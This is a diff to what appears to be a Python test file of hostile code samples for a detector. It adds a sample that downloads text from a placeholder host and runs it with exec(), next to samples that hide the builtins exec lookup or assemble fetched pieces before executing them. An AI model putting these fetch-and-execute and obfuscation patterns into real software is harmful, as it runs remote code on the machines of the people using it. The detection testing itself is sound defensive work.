@@ -22,6 +22,10 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "a name from a named place": py(
             f"import sys, requests\nsys.modules['%(a)stins' % {{'a': 'buil'}}].exec({_GET})\n"
         ),
+        "read where the reply was asked for": py(
+            "from urllib.request import urlopen\nwith urlopen('https://a.invalid') as r:\n"
+            "    text = r.read()\nexec(text)\n"
+        ),
         "gathered in a list": py(
             f"import requests\nclass Parts:\n    def __init__(self): self.all = []\n"
             f"    def take(self): self.all.append({_GET})\n    def show(self): exec(''.join(self.all))\n",
